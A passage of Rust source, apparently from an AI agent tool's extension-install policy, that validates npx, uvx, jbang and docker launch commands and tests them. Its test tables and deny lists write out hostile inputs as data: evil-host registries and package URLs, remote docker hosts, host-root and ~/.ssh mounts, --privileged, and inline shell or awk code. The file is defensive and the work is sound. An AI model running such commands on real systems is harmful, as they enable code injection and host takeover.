        if a == "--" {
            return Ok(i + 1);
        }
        if !a.starts_with('-') || a == "-" {
            return Ok(i);
        }
        let (opt, glued) = a.split_once('=').map_or((a, None), |(o, v)| (o, Some(v)));
        if let Some((_, why)) = refused.iter().find(|(opts, _)| in_words(opts, opt)) {
            return Err(PolicyError::InlineCode { cmd: cmd.into(), arg: a.into(), why: format!("`{opt}` {why}") });
        }
        if in_words(flags, a) {
            i += 1;
        } else if in_words(valued, opt) {
            let v = match glued {
                Some(v) => v,
                None => {
                    i += 1;
                    args.get(i).map(String::as_str).ok_or_else(|| not_package(cmd, a, "the option needs a value"))?
                }
            };
            check(opt, v)?;
            i += 1;
        } else {
            return Err(PolicyError::InlineCode {
                cmd: cmd.into(),
                arg: a.into(),
                why: format!(
                    "`{opt}` is not one of the {cmd} options links may use ({}, {}); others can run code or change where packages come from",
                    shown(flags),
                    shown(valued)
                ),
            });
        }
    }
    Ok(i)
}

fn check_npx(cmd: &str, args: &[String]) -> Result<(), PolicyError> {
    const RUNS: &str = "can run an arbitrary shell command or code (code injection)";
    const SOURCE: &str = "changes where packages come from or how npm runs them";
    let mut named_package = false;
    let i = launcher_options(
        cmd,
        args,
        "-y --yes --no -q --quiet --silent --prefer-offline --prefer-online --offline",
        "-p --package",
        &[
            ("-c --call -e --eval --node-options --script-shell --shell", RUNS),
            ("--registry --userconfig --globalconfig --prefix", SOURCE),
        ],
        |_, v| {
            named_package = true;
            check_npm_spec(cmd, v).map(|_| ())
        },
    )?;
    let Some(program) = args.get(i) else {
        return Err(not_package(cmd, "", "npx needs a package to run"));
    };
    let bin = if named_package { check_bin_name(cmd, program)? } else { check_npm_spec(cmd, program)? };
    // As goose does: `-c`/`--call` anywhere (npm has read options after the package too).
    if let Some(a) = args[i + 1..].iter().find(|a| {
        let opt = a.split_once('=').map_or(a.as_str(), |(o, _)| o);
        opt == "-c" || opt == "--call"
    }) {
        return Err(PolicyError::InlineCode { cmd: cmd.into(), arg: a.clone(), why: format!("npx with `{a}` {RUNS}") });
    }
    check_program(cmd, &bin, &args[i + 1..])
}

fn check_uvx(cmd: &str, args: &[String]) -> Result<(), PolicyError> {
    const SOURCE: &str = "changes where packages come from";
    let mut from = false;
    let i = launcher_options(
        cmd,
        args,
        "-q --quiet -v --verbose --offline --refresh --isolated --no-cache -n --no-progress",
        "--from --with -p --python --refresh-package",
        &[
            ("--index --index-url -i --extra-index-url --default-index --find-links -f", SOURCE),
            ("--with-requirements", "installs whatever a file lists"),
            ("--with-editable", "installs a local directory"),
            ("--env-file", "loads environment variables from a file"),
        ],
        |opt, v| match opt {
            "--from" => {
                from = true;
                check_pypi_spec(cmd, v).map(|_| ())
            }
            "--with" => v.split(',').try_for_each(|p| check_pypi_spec(cmd, p.trim()).map(|_| ())),
            "--refresh-package" => check_pypi_spec(cmd, v).map(|_| ()),
            _ => {
                if v.bytes().all(|b| b.is_ascii_alphanumeric() || b".@_+-".contains(&b)) {
                    Ok(())
                } else {
                    Err(not_package(
                        cmd,
                        v,
                        "--python takes a version or implementation name (`3.12`, `pypy@3.10`), not a path",
                    ))
                }
            }
        },
    )?;
    let Some(program) = args.get(i) else {
        return Err(not_package(cmd, "", "uvx needs a package to run"));
    };
    let bin = if from { check_bin_name(cmd, program)? } else { check_pypi_spec(cmd, program)? };
    check_program(cmd, &bin, &args[i + 1..])
}

fn check_jbang(cmd: &str, args: &[String]) -> Result<(), PolicyError> {
    let args = if args.first().is_some_and(|a| a == "run") { &args[1..] } else { args };
    let i = launcher_options(
        cmd,
        args,
        "-q --quiet --fresh --verbose -o --offline --no-cache",
        "--java -j",
        &[
            ("-c --code", "runs the source text given in the link"),
            ("-R --runtime-option", "passes options to the JVM (agents, classpath)"),
            ("--javaagent", "loads a Java agent"),
            ("--repos", "changes where dependencies come from"),
            ("--cp --class-path", "adds code to the classpath"),
            ("--deps", "adds dependencies to what runs"),
            ("--insecure", "turns off certificate checks"),
        ],
        |_, v| {
            if v.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)) {
                Ok(())
            } else {
                Err(not_package(cmd, v, "--java takes a version"))
            }
        },
    )?;
    let Some(program) = args.get(i) else {
        return Err(not_package(cmd, "", "jbang needs a Maven coordinate or catalog alias to run"));
    };
    const WHAT: &str = "jbang runs a Maven coordinate `group:artifact:version` or a catalog alias `name@catalog`";
    no_path_or_url(cmd, program, WHAT)?;
    let ok_part = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"._+-".contains(&b));
    let lower = program.to_ascii_lowercase();
    let source_file = [".java", ".jsh", ".kt", ".groovy", ".md", ".jar"].iter().any(|s| lower.ends_with(s));
    let gav = program.split(':').count() >= 3 && program.split(':').all(ok_part);
    let alias = !program.contains(':') && program.split('@').count() <= 2 && program.split('@').all(ok_part);
    if source_file || !(gav || alias) {
        return Err(not_package(cmd, program, WHAT));
    }
    Ok(())
}

/// Host paths a container may not mount: the root, home directories, system and engine state.
fn sensitive_mount(src: &str, home: Option<&str>) -> bool {
    let s = src.trim_end_matches('/');
    let drive = s.len() == 1 && s.bytes().all(|b| b.is_ascii_alphabetic());
    if s.is_empty() || drive || s.starts_with(['~', '$', '.']) || s.ends_with(".sock") {
        return true;
    }
    if !s.starts_with('/') {
        return false; // a named volume
    }
    const ROOTS: [&str; 12] =
        ["/root", "/home", "/Users", "/etc", "/proc", "/sys", "/dev", "/boot", "/run", "/var/run", "/var/lib", "/usr"];
    let under = |root: &str| s == root || s.starts_with(&format!("{root}/"));
    if ROOTS.iter().any(|r| under(r)) {
        return true;
    }
    home.map(|h| h.trim_end_matches('/'))
        .filter(|h| !h.is_empty())
        .is_some_and(|h| under(h) || h.starts_with(&format!("{s}/")))
}

fn check_container(cmd: &str, args: &[String]) -> Result<(), PolicyError> {
    let reach = |arg: &str, why: String| PolicyError::ContainerReach { cmd: cmd.into(), arg: arg.into(), why };
    let rest = match args.first().map(String::as_str) {
        Some("run") => &args[1..],
        Some("container") if args.get(1).is_some_and(|a| a == "run") => &args[2..],
        other => {
            return Err(reach(
                other.unwrap_or(""),
                format!(
                "links may only use `{cmd} run IMAGE …` (no global options such as -H/--context, no other subcommands)"
            ),
            ))
        }
    };
    let home = std::env::var("HOME").ok();
    const FLAGS: &str = "-i --interactive -t --tty -it -ti --rm --init --read-only -q";
    const VALUED: &str = "-e --env --name -p --publish -w --workdir -u --user --entrypoint \
        --network --net --pid --ipc --uts --userns --cgroupns -l --label --platform -m --memory --cpus \
        --pull --cap-drop --tmpfs -v --volume --mount --add-host";
    const WIDEN: &str = "--privileged --cap-add --device --device-cgroup-rule --security-opt --volumes-from \
        --env-file --gpus --runtime --group-add --sysctl";
    let mut entrypoint: Option<String> = None;
    let mut i = 0;
    while i < rest.len() {
        let a = rest[i].as_str();
        if !a.starts_with('-') {
            break;
        }
        let (opt, glued) = match a.split_once('=') {
            Some((o, v)) if o.starts_with("--") => (o.to_string(), Some(v.to_string())),
            _ => {
                // `-v/:/host`, `-eKEY=V`: a short option with its value glued on.
                let short = VALUED
                    .split_whitespace()
                    .find(|o| o.len() == 2 && a.len() > 2 && a.starts_with(o) && !a.starts_with("--"));
                match short {
                    Some(o) => (o.to_string(), Some(a[2..].to_string())),
                    None => (a.to_string(), None),
                }
            }
        };
        if in_words(WIDEN, &opt) {
            return Err(reach(a, format!("`{opt}` gives the container access to the host beyond its image")));
        }
        if in_words(FLAGS, &opt) && glued.is_none() {
            i += 1;
            continue;
        }
        if !in_words(VALUED, &opt) {
            return Err(reach(
                a,
                format!(
                    "`{opt}` is not one of the {cmd} run options links may use ({}, {})",
                    shown(FLAGS),
                    shown(VALUED)
                ),
            ));
        }
        let (v, shown) = match glued {
            Some(v) => (v, a.to_string()),
            None => {
                i += 1;
                let v = rest.get(i).cloned().ok_or_else(|| reach(a, format!("`{opt}` needs a value")))?;
                let shown = format!("{a} {v}");
                (v, shown)
            }
        };
        let a = shown.as_str();
        match opt.as_str() {
            "--network" | "--net" | "--pid" | "--ipc" | "--uts" | "--userns" | "--cgroupns"
                if v.eq_ignore_ascii_case("host") || v.starts_with("container:") =>
            {
                return Err(reach(a, format!("`{opt}={v}` shares the host's (or another container's) namespace")));
            }
            "-v" | "--volume" => {
                let src = v.split(':').next().unwrap_or("");
                if sensitive_mount(src, home.as_deref()) {
                    return Err(reach(
                        a,
                        format!(
                            "mounting `{src}` exposes the host's root, a home directory or system files to the image"
                        ),
                    ));
                }
            }
            "--mount" => {
                for kv in v.split(',') {
                    if let Some(src) = kv.strip_prefix("source=").or_else(|| kv.strip_prefix("src=")) {
                        if sensitive_mount(src, home.as_deref()) {
                            return Err(reach(a, format!("mounting `{src}` exposes the host's root, a home directory or system files to the image")));
                        }
                    }
                }
            }
            "--entrypoint" => entrypoint = Some(v),
            // `-e NAME` copies NAME from the engine's environment into the container: never one
            // of gosling's own secrets.
            "-e" | "--env" => {
                let name = v.split('=').next().unwrap_or("");
                if crate::extensions::config::is_reserved_secret(name) {
                    return Err(PolicyError::ReservedSecret { field: format!("{cmd} run {opt}"), name: name.into() });
                }
            }
            _ => {}
        }
        i += 1;
    }
    let Some(image) = rest.get(i) else {
        return Err(reach("", format!("`{cmd} run` needs an image")));
    };
    if !image.bytes().all(|b| b.is_ascii_alphanumeric() || b"._/:@-".contains(&b)) {
        return Err(not_package(cmd, image, "an image is a name like `ghcr.io/org/server:tag`"));
    }
    let after = &rest[i + 1..];
    match entrypoint {
        Some(ep) => check_program(cmd, &ep, after),
        None => match after.first() {
            Some(prog) => check_program(cmd, prog, &after[1..]),
            None => Ok(()),
        },
    }
}

/// Rule 2 for one command line; see the module header and docs/install.md for the grammar.
fn check_args(cmd: &str, args: &[String]) -> Result<(), PolicyError> {
    for arg in args {
        if let Some(m) = METACHARS.iter().find(|m| arg.contains(**m)) {
            return Err(PolicyError::ShellMetacharacter { arg: arg.clone(), pattern: m });
        }
    }
    let name = program_name(cmd);
    match name.as_str() {
        "npx" => check_npx(cmd, args),
        "uvx" => check_uvx(cmd, args),
        "jbang" => check_jbang(cmd, args),
        "docker" | "podman" => check_container(cmd, args),
        "gosling" | "goosed" => {
            if args.len() == 2 && args[0] == "mcp" && !args[1].starts_with('-') {
                Ok(())
            } else {
                let shown = args.first().map_or("", String::as_str);
                Err(PolicyError::InlineCode {
                    cmd: cmd.into(),
                    arg: shown.into(),
                    why: format!("{cmd} may only be installed as `{cmd} mcp NAME` (a builtin extension), not to start a server or run other subcommands"),
                })
            }
        }
        _ => check_program(cmd, cmd, args),
    }
}

/// Reads the local allowlist file: `(list, allowed_commands)`.
fn read_local(path: &Path) -> Result<(LocalList, Vec<String>), PolicyError> {
    let origin = || path.display().to_string();
    let setup = |detail: String| PolicyError::Setup { origin: origin(), detail };
    let meta = std::fs::metadata(path).map_err(|e| {
        setup(format!("cannot read the allowlist file: {e}; create it or unset GOSLING_ALLOWLIST_FILE"))
    })?;
    if meta.len() > MAX_ALLOWLIST_BYTES {
        return Err(setup(format!("is larger than {MAX_ALLOWLIST_BYTES} bytes")));
    }
    let text = std::fs::read_to_string(path).map_err(|e| setup(format!("cannot read the allowlist file: {e}")))?;
    let v: Value = serde_json::from_str(&text).map_err(|e| setup(format!("is not valid JSON: {e}")))?;
    let obj = v
        .as_object()
        .ok_or_else(|| setup(r#"must be a JSON object like {"commands": [...], "urls": [...]}"#.into()))?;
    let list = |key: &str| -> Result<Option<Vec<String>>, PolicyError> {
        match obj.get(key) {
            None => Ok(None),
            Some(Value::Array(a)) => a
                .iter()
                .map(|s| {
                    s.as_str()
                        .map(|s| s.trim().to_string())
                        .filter(|s| !s.is_empty())
                        .ok_or_else(|| setup(format!("`{key}` must be a list of non-empty strings")))
                })
                .collect::<Result<Vec<_>, _>>()
                .map(Some),
            Some(_) => Err(setup(format!("`{key}` must be a list of strings"))),
        }
    };
    for k in obj.keys() {
        if !matches!(k.as_str(), "commands" | "urls" | "allowed_commands") {
            return Err(setup(format!("unknown key `{k}`; the file takes `commands`, `urls` and `allowed_commands`")));
        }
    }
    let extra = list("allowed_commands")?.unwrap_or_default();
    for c in &extra {
        if c.chars().any(|ch| ch.is_whitespace() || ch.is_control()) {
            return Err(setup(format!("allowed_commands: {c:?} is not a command name (no spaces)")));
        }
    }
    let local = LocalList { path: path.to_path_buf(), commands: list("commands")?, urls: list("urls")? };
    Ok((local, extra))
}

/// Why goose's allowlist (`GOOSE_ALLOWLIST`) could not be used, for the message that
/// refuses installs while it is unavailable.
#[derive(Debug, Clone, PartialEq)]
pub enum AllowlistError {
    NotHttp,
    Fetch(String),
    Status(u16),
    /// A line of the YAML (1-based) and what is wrong with it.
    Line(usize, YamlProblem),
    NoExtensionsKey,
    /// The 1-based item without a command.
    EmptyCommand(usize),
}

/// What is wrong with one line of the allowlist YAML.
#[derive(Debug, Clone, PartialEq)]
pub enum YamlProblem {
    NotBlockForm,
    BadListItem,
    FlowMapping,
    TwoCommands,
    CommandOutsideItem,
    Unterminated(char),
    BadEscape(char),
}

impl fmt::Display for AllowlistError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AllowlistError::NotHttp => write!(f, "it must be an http:// or https:// URL"),
            AllowlistError::Fetch(e) => write!(f, "{e}"),
            AllowlistError::Status(s) => write!(f, "HTTP status {s}"),
            AllowlistError::Line(n, p) => write!(f, "line {n}: {p}"),
            AllowlistError::NoExtensionsKey => write!(f, "no top-level `extensions:` key"),
            AllowlistError::EmptyCommand(i) => write!(f, "extensions item {i} has no non-empty `command`"),
        }
    }
}

impl fmt::Display for YamlProblem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            YamlProblem::NotBlockForm => {
                write!(f, "only the block list form `extensions:` / `  - command: …` is supported")
            }
            YamlProblem::BadListItem => write!(f, "expected `- ` to start a list item"),
            YamlProblem::FlowMapping => {
                write!(f, "flow mappings ({{…}}) are not supported; write `- id: …` / `  command: …`")
            }
            YamlProblem::TwoCommands => write!(f, "an item has two `command` keys"),
            YamlProblem::CommandOutsideItem => write!(f, "`command` outside a list item"),
            YamlProblem::Unterminated('\'') => write!(f, "unterminated single-quoted value"),
            YamlProblem::Unterminated(_) => write!(f, "unterminated double-quoted value"),
            YamlProblem::BadEscape(c) => write!(f, "unsupported escape \\{c} in a double-quoted value"),
        }
    }
}

/// GETs the allowlist, bounded in time and size.
fn fetch(url: &str) -> Result<String, AllowlistError> {
    let lower = url.to_ascii_lowercase();
    if !(lower.starts_with("http://") || lower.starts_with("https://")) {
        return Err(AllowlistError::NotHttp);
    }
    let agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(FETCH_TIMEOUT))
        .max_redirects(5)
        .build()
        .new_agent();
    let mut resp = agent.get(url).call().map_err(|e| AllowlistError::Fetch(e.to_string()))?;
    let status = resp.status().as_u16();
    if !(200..300).contains(&status) {
        return Err(AllowlistError::Status(status));
    }
    let body = resp.body_mut().with_config().limit(MAX_ALLOWLIST_BYTES).read_to_string();
    body.map_err(|e| AllowlistError::Fetch(e.to_string()))
}

/// Parses goose's allowlist YAML: a top-level `extensions:` list whose items carry `command:`
/// (plain, single- or double-quoted scalars). Only that block form is understood; anything that
/// would leave an item without a command is an error rather than a silently shorter list.
pub fn parse_allowlist_yaml(text: &str) -> Result<Vec<String>, AllowlistError> {
    let mut in_list = false;
    let mut seen_key = false;
    let mut items: Vec<Option<String>> = Vec::new();
    for (n, raw) in text.lines().enumerate() {
        let line = raw.trim_end();
        let body = line.trim_start();
        if body.is_empty() || body.starts_with('#') || body == "---" {
            continue;
        }
        let indent = line.len() - body.len();
        if indent == 0 && !body.starts_with('-') {
            in_list = false;
            if let Some(rest) = body.strip_prefix("extensions:") {
                seen_key = true;
                let rest = strip_comment(rest).trim();
                match rest {
                    "" => in_list = true,
                    "[]" => {}
                    _ => return Err(AllowlistError::Line(n + 1, YamlProblem::NotBlockForm)),
                }
            }
            continue;
        }
        if !in_list {
            continue;
        }
        let mut entry = body;
        if let Some(rest) = body.strip_prefix('-') {
            if !(rest.is_empty() || rest.starts_with(' ')) {
                return Err(AllowlistError::Line(n + 1, YamlProblem::BadListItem));
            }
            items.push(None);
            entry = rest.trim_start();
            if entry.is_empty() {
                continue;
            }
        }
        if entry.starts_with('{') {
            return Err(AllowlistError::Line(n + 1, YamlProblem::FlowMapping));
        }
        if let Some(value) = entry.strip_prefix("command:") {
            let cmd = yaml_scalar(value).map_err(|p| AllowlistError::Line(n + 1, p))?;
            match items.last_mut() {
                Some(slot) if slot.is_none() => *slot = Some(cmd),
                Some(_) => return Err(AllowlistError::Line(n + 1, YamlProblem::TwoCommands)),
                None => return Err(AllowlistError::Line(n + 1, YamlProblem::CommandOutsideItem)),
            }
        }
    }
    if !seen_key {
        return Err(AllowlistError::NoExtensionsKey);
    }
    items
        .into_iter()
        .enumerate()
        .map(|(i, c)| c.filter(|c| !c.trim().is_empty()).ok_or(AllowlistError::EmptyCommand(i + 1)))
        .collect()
}

fn strip_comment(s: &str) -> &str {
    match s.find(" #") {
        Some(i) => &s[..i],
        None if s.trim_start().starts_with('#') => "",
        None => s,
    }
}

/// A YAML scalar on one line: `'…'` (with `''`), `"…"` (with `\"`, `\\`), or plain.
fn yaml_scalar(v: &str) -> Result<String, YamlProblem> {
    let v = v.trim();
    if let Some(rest) = v.strip_prefix('\'') {
        let mut out = String::new();
        let mut chars = rest.chars().peekable();
        while let Some(c) = chars.next() {
            if c == '\'' {
                if chars.peek() == Some(&'\'') {
                    chars.next();
                    out.push('\'');
                } else {
                    return Ok(out);
                }
            } else {
                out.push(c);
            }
        }
        Err(YamlProblem::Unterminated('\''))
    } else if let Some(rest) = v.strip_prefix('"') {
        let mut out = String::new();
        let mut chars = rest.chars();
        while let Some(c) = chars.next() {
            match c {
                '"' => return Ok(out),
                '\\' => match chars.next() {
                    Some('"') => out.push('"'),
                    Some('\\') => out.push('\\'),
                    Some('t') => out.push('\t'),
                    Some('/') => out.push('/'),
                    Some(o) => return Err(YamlProblem::BadEscape(o)),
                    None => break,
                },
                c => out.push(c),
            }
        }
        Err(YamlProblem::Unterminated('"'))
    } else {
        Ok(strip_comment(v).trim().to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use std::collections::HashMap;

    struct MapEnv(HashMap<String, String>);
    impl Env for MapEnv {
        fn get(&self, key: &str) -> Option<String> {
            self.0.get(key).cloned()
        }
    }
    fn env(pairs: &[(&str, &str)]) -> MapEnv {
        MapEnv(pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect())
    }

    fn stdio(cmd: &str, args: &[&str]) -> ExtensionConfig {
        ExtensionConfig::from_value(json!({"type":"stdio","name":"x","cmd":cmd,"args":args})).unwrap()
    }
    fn remote(uri: &str) -> ExtensionConfig {
        ExtensionConfig::from_value(json!({"type":"streamable_http","name":"r","description":"","uri":uri})).unwrap()
    }

    fn tmpdir(tag: &str) -> PathBuf {
        let d = std::env::temp_dir().join(format!("gosling-policy-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(&d).unwrap();
        d
    }

    #[test]
    fn allowed_commands_rule_for_links_and_imports_only() {
        let p = Policy::permissive();
        for c in DEFAULT_COMMANDS {
            let args: &[&str] = match c {
                "gosling" | "goosed" => &["mcp", "developer"],
                "docker" => &["run", "-i", "--rm", "img"],
                _ => &["pkg"],
            };
            assert!(p.check(&stdio(c, args), InstallSource::DeepLink).is_ok(), "{c}");
        }
        for bad in ["bash", "/usr/bin/npx", "./npx", "NPX", "npx ", "python3", "node"] {
            let e = p.check(&stdio(bad, &[]), InstallSource::DeepLink).unwrap_err();
            assert!(matches!(e, PolicyError::CommandNotAllowed { .. }), "{bad}: {e}");
            assert!(e.to_string().contains("allowed-commands rule"), "{e}");
            assert!(p.check(&stdio(bad, &[]), InstallSource::Import).is_err());
            for s in [InstallSource::ConfigApi, InstallSource::AddExtension, InstallSource::Cli] {
                assert!(p.check(&stdio(bad, &["pkg"]), s).is_ok(), "{bad} via {s:?}");
            }
        }
        assert!(p
            .check(&stdio("/usr/bin/npx", &[]), InstallSource::DeepLink)
            .unwrap_err()
            .to_string()
            .contains("paths are not allowed"));
    }

    /// (command, args, a word the refusal must contain).
    const REFUSED: &[(&str, &[&str], &str)] = &[
        ("npx", &["-c", "echo hi"], "`-c`"),
        ("npx", &["-y", "pkg", "-c", "x"], "-c"),
        ("npx.cmd", &["-c", "x"], "`-c`"),
        ("npx", &["--call", "x"], "--call"),
        ("npx", &["--call=x"], "--call"),
        ("npx", &["-yc", "x"], "-yc"),
        ("npx", &["--eval=x"], "--eval"),
        ("npx", &["--node-options=--require=/tmp/x.js", "pkg"], "--node-options"),
        ("npx", &["--registry", "https://evil.example", "pkg"], "--registry"),
        ("npx", &["awk", "BEGIN{system(\"id\")}"], "awk"),
        ("npx", &["-y", "gawk", "BEGIN{}"], "gawk"),
        ("npx", &["node", "--import=data:text/javascript,process.exit(1)"], "--import"),
        ("npx", &["node", "-e", "1"], "-e"),
        ("npx", &["node", "-pe", "1"], "-pe"),
        ("npx", &["./evil"], "path"),
        ("npx", &["/tmp/x"], "path"),
        ("npx", &["https://evil.example/x.tgz"], "URL"),
        ("npx", &["github:user/repo"], "package-spec"),
        ("npx", &["user/repo"], "package-spec"),
        ("npx", &["-p", "git+https://h/x", "x"], "URL"),
        ("npx", &[], "needs a package"),
        ("uvx", &["python", "-c", "import os"], "-c"),
        ("uvx", &["python", "-cimport os"], "-cimport"),
        ("uvx", &["python3.12", "-Ic", "1"], "-Ic"),
        ("uvx", &["--from", "x", "python3.12", "-c", "import os"], "-c"),
        ("uvx", &["ipython", "-c", "1"], "ipython"),
        ("uvx", &["xonsh", "-c", "id"], "xonsh"),
        ("uvx", &["--index-url", "https://evil/simple", "pkg"], "--index-url"),
        ("uvx", &["--from", "git+https://github.com/x/y", "y-server"], "URL"),
        ("uvx", &["--from", "./local", "y"], "path"),
        ("uvx", &["--with-requirements", "r.txt", "y"], "--with-requirements"),
        ("uvx", &["pkg;id"], "no-shell-syntax"),
        ("uvx", &["a && b"], "no-shell-syntax"),
        ("uvx", &["a\nb"], "no-shell-syntax"),
        ("uvx", &["perl", "-e", "1"], "-e"),
        ("uvx", &["perl", "-Mstrict", "x"], "-Mstrict"),
        ("uvx", &["ruby", "-e", "1"], "-e"),
        ("uvx", &["deno", "eval", "1"], "eval"),
        ("uvx", &["php", "-r", "1"], "-r"),
        ("uvx", &["lua", "-e", "1"], "-e"),
        ("uvx", &["bash", "-lc", "id"], "-lc"),
        ("uvx", &["fish", "--command", "id"], "--command"),
        ("uvx", &["zsh", "-c", "id"], "-c"),
        ("uvx", &["--from", "x", "python", "-m", "timeit", "__import__('os')"], "timeit"),
        ("uvx", &["--from", "x", "python", "-Im", "timeit", "1"], "timeit"),
        ("uvx", &["--from", "x", "python", "-mtimeit", "1"], "timeit"),
        ("uvx", &["--from", "x", "python", "-X", "importtime", "-c", "1"], "-c"),
        ("uvx", &["uv", "run", "python", "-c", "1"], "`uv`"),
        ("npx", &["npx", "-c", "id"], "-c"),
        ("npx", &["-y", "cross-env", "A=1", "sh"], "cross-env"),
        ("npx", &["tsx", "-e", "1"], "-e"),
        ("npx", &["-y", "zx", "--eval", "1"], "--eval"),
        ("npx", &["node", "--run", "build"], "--run"),
        ("jbang", &["--code", "class A{}"], "--code"),
        ("jbang", &["-c", "x"], "-c"),
        ("jbang", &["https://evil/x.java"], "URL"),
        ("jbang", &["x.java"], "package-spec"),
        ("jbang", &["-R", "-javaagent:/x.jar", "g:a:1"], "-R"),
        ("docker", &["run", "-i", "alpine", "sh", "-c", "id"], "-c"),
        ("docker", &["run", "--entrypoint=sh", "alpine", "-c", "id"], "-c"),
        ("docker", &["run", "--entrypoint", "/bin/bash", "alpine", "-lc", "id"], "-lc"),
        ("docker", &["run", "--privileged", "img"], "--privileged"),
        ("docker", &["run", "--privileged=true", "img"], "--privileged"),
        ("docker", &["run", "-v", "/:/host", "img"], "container-isolation"),
        ("docker", &["run", "-v/:/host", "img"], "container-isolation"),
        ("docker", &["run", "--volume=/home:/h", "img"], "container-isolation"),
        ("docker", &["run", "-v", "~/.ssh:/s", "img"], "container-isolation"),
        ("docker", &["run", "-v", "C:\\:/host", "img"], "container-isolation"),
        ("docker", &["run", "-v", "/var/run/docker.sock:/d.sock", "img"], "container-isolation"),
        ("docker", &["run", "--mount", "type=bind,source=/,target=/h", "img"], "container-isolation"),
        ("docker", &["run", "--pid=host", "img"], "--pid"),
        ("docker", &["run", "--pid", "host", "img"], "--pid"),
        ("docker", &["run", "--network=host", "img"], "--network"),
        ("docker", &["run", "--net", "host", "img"], "--net"),
        ("docker", &["run", "--cap-add", "SYS_ADMIN", "img"], "--cap-add"),
        ("docker", &["run", "--cap-add=ALL", "img"], "--cap-add"),
        ("docker", &["run", "--device", "/dev/sda", "img"], "--device"),
        ("docker", &["run", "--device=/dev/kmsg", "img"], "--device"),
        ("docker", &["run", "-e", "OPENAI_API_KEY", "img"], "own-secrets rule"),
        ("docker", &["run", "--env=GOOSE_SERVER__SECRET_KEY", "img"], "own-secrets rule"),
        ("docker", &["-H", "tcp://evil:2375", "run", "img"], "container-isolation"),
        ("docker", &["exec", "c", "sh"], "container-isolation"),
        ("podman", &["run", "--privileged", "img"], "--privileged"),
        ("gosling", &["agent", "--host", "0.0.0.0"], "agent"),
        ("gosling", &["install", "--yes", "goose://extension?cmd=uvx&name=x"], "install"),
        ("goosed", &["agent"], "agent"),
        ("gosling", &["mcp"], "mcp"),
    ];

    const ALLOWED: &[(&str, &[&str])] = &[
        ("npx", &["-y", "@modelcontextprotocol/server-everything"]),
        ("npx", &["-y", "@modelcontextprotocol/server-everything@2025.1.14"]),
        ("npx", &["-y", "mcp-remote", "https://h/mcp?a=1&b=2"]),
        ("npx", &["--package", "@scope/pkg@latest", "pkg-bin", "--flag"]),
        ("uvx", &["mcp-server-fetch"]),
        ("uvx", &["mcp-server-fetch@latest"]),
        ("uvx", &["mcp-server-git==0.6.2", "--repository", "r"]),
        ("uvx", &["--from", "mcp-foo[cli]>=1.0", "mcp-foo"]),
        ("uvx", &["--from", "mcp-foo", "python", "-m", "mcp_foo", "-c", "config.yaml"]),
        ("uvx", &["--from", "mcp-foo", "python", "-Im", "mcp_foo", "-c", "x"]),
        ("uvx", &["--from", "mcp-foo", "python", "-mmcp_foo", "-c", "x"]),
        ("uvx", &["--python", "3.12", "python-dotenv-mcp", "-c", "x"]),
        ("jbang", &["io.quarkiverse.mcp:mcp-server-jdbc:1.0.0", "jdbc:h2:mem:x"]),
        ("jbang", &["jdbc@quarkiverse"]),
        ("docker", &["run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/github/github-mcp-server"]),
        ("docker", &["run", "-i", "--rm", "-v", "/tmp/data:/data", "-v", "vol:/v", "img:1", "--x"]),
        ("docker", &["run", "-i", "img", "python", "-m", "server"]),
        ("podman", &["container", "run", "-i", "--network", "none", "img"]),
        ("gosling", &["mcp", "developer"]),
        ("goosed", &["mcp", "memory"]),
    ];

    #[test]
    fn inline_code_is_refused_on_every_path() {
        let p = Policy::permissive();
        for (cmd, args, word) in REFUSED {
            for s in
                [InstallSource::DeepLink, InstallSource::Import, InstallSource::ConfigApi, InstallSource::AddExtension]
            {
                if s.checks_commands() && !DEFAULT_COMMANDS.contains(cmd) {
                    continue;
                }
                let Err(e) = p.check(&stdio(cmd, args), s) else { panic!("{cmd} {args:?} passed via {s:?}") };
                assert!(
                    matches!(
                        e,
                        PolicyError::InlineCode { .. }
                            | PolicyError::ShellMetacharacter { .. }
                            | PolicyError::NotAPackage { .. }
                            | PolicyError::ContainerReach { .. }
                            | PolicyError::ReservedSecret { .. }
                    ),
                    "{cmd} {args:?}: {e}"
                );
                let m = e.to_string();
                assert!(m.contains(word) && m.contains("rule"), "{cmd} {args:?}: {m}");
            }
        }
        for (cmd, args) in ALLOWED {
            for s in [InstallSource::DeepLink, InstallSource::Import, InstallSource::ConfigApi] {
                if s.checks_commands() && !DEFAULT_COMMANDS.contains(cmd) {
                    continue;
                }
                assert!(p.check(&stdio(cmd, args), s).is_ok(), "{cmd} {args:?}: {:?}", p.check(&stdio(cmd, args), s));
            }
        }
        // The cmd itself may be an interpreter on the API paths (the user's own config), but
        // never with inline code.
        for (cmd, args) in
            [("bash", &["-c", "id"][..]), ("python3", &["-c", "1"]), ("/usr/bin/env", &["sh"]), ("awk", &["1"])]
        {
            let e = p.check(&stdio(cmd, args), InstallSource::ConfigApi).unwrap_err();
            assert!(e.to_string().contains("no-inline-code rule"), "{e}");
        }
        assert!(p.check(&stdio("python3", &["server.py", "-c", "conf"]), InstallSource::ConfigApi).is_ok());
        assert!(p.check(&stdio("node", &["build/index.js"]), InstallSource::ConfigApi).is_ok());
    }

    #[test]
    fn env_and_own_secrets_are_refused_on_every_path() {
        let p = Policy::permissive();
        let with_env = |k: &str| {
            ExtensionConfig::from_value(json!({"type":"stdio","name":"x","cmd":"uvx","args":["pkg"],"envs":{k:"v"}}))
                .unwrap()
        };
        let with_key = |k: &str| {
            ExtensionConfig::from_value(json!({"type":"stdio","name":"x","cmd":"uvx","args":["pkg"],"env_keys":[k]}))
                .unwrap()
        };
        let with_header = |v: &str| {
            ExtensionConfig::from_value(
                json!({"type":"streamable_http","name":"r","uri":"http://h/mcp","headers":{"X-K":v}}),
            )
            .unwrap()
        };
        for s in [InstallSource::DeepLink, InstallSource::Import, InstallSource::ConfigApi, InstallSource::AddExtension]
        {
            for k in ["npm_config_node_options", "BASH_ENV", "PERL5OPT", "DOCKER_HOST", "https_proxy", "Ld_Preload"] {
